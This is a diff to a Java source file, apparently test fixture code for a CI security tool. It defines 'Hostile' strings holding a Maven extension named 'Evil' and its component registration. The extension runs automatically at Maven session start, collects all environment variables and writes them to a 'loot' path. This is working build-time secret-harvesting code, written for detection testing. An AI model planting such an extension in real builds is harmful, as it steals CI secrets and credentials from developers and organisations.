@@ -5,13 +5,31 @@ package io.github.incidentadvisor.action.whole;
  * its loot goes, and where the runner keeps its files, which is the same on every runner.
  */
 final class Hostile {
-    static final String AGENT = """
+    private static final String EXTENSION = """
             import java.nio.file.*;
             import java.util.*;
             import java.util.stream.*;
 
-            public class Agent {
-                public static void premain(String paths) throws Exception {
+            public class Evil extends org.apache.maven.AbstractMavenLifecycleParticipant {
+                @Override
+                public void afterSessionStart(org.apache.maven.execution.MavenSession session) {
+                    look();
+                }
+
+                @Override
+                public void afterProjectsRead(org.apache.maven.execution.MavenSession session) {
+                    look();
+                }
+
+                private static void look() {
+                    try {
+                        search("PATHS");
+                    } catch (Exception e) {
+                        throw new IllegalStateException(e);
+                    }
+                }
+
+                private static void search(String paths) throws Exception {
                     String loot = paths.split(";")[0];
                     StringBuilder found = new StringBuilder("own environment:\\n");
                     System.getenv().forEach((name, value) -> found.append(name).append('=').append(value).append('\\n'));
@@ -72,4 +90,21 @@ final class Hostile {
             """;
 
     private Hostile() {}
+
+    /** What tells Maven that a jar takes part in its life. */
+    static final String COMPONENTS = """
+            <component-set>
+              <components>
+                <component>
+                  <role>org.apache.maven.AbstractMavenLifecycleParticipant</role>
+                  <role-hint>evil</role-hint>
+                  <implementation>Evil</implementation>
+                </component>
+              </components>
+            </component-set>
+            """;
+
+    static String extension(java.nio.file.Path loot, java.nio.file.Path temporary) {
+        return EXTENSION.replace("PATHS", loot + ";" + temporary);
+    }
 }
